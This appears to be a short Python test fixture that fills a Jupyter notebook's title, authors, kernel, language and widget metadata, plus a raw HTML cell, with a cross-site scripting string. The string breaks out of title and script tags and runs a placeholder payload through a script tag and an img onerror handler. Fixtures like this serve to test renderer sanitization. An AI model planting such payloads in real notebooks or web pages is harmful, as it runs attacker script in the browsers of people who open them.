"""Puts HTML into the title, the authors, the kernel, the language and the widgets, and below it all into a cell."""
# wins: page
# %% notebook
bad = f"\"></title></script><script>{PWN}</script><img src=x onerror={PWN}>"
nb.metadata.update(title=bad, authors=[{"name": bad}], kernelspec={"name": bad, "display_name": bad, "language": bad},
                   language_info={"name": bad, "pygments_lexer": bad, "codemirror_mode": bad, "mimetype": bad},
                   widgets={"application/vnd.jupyter.widget-state+json": {"state": {}, "x": bad, "version_major": 2, "version_minor": 0}})
nb.cells.append(new_raw_cell(bad, metadata={"raw_mimetype": "text/html", "tags": [bad], "name": bad}))
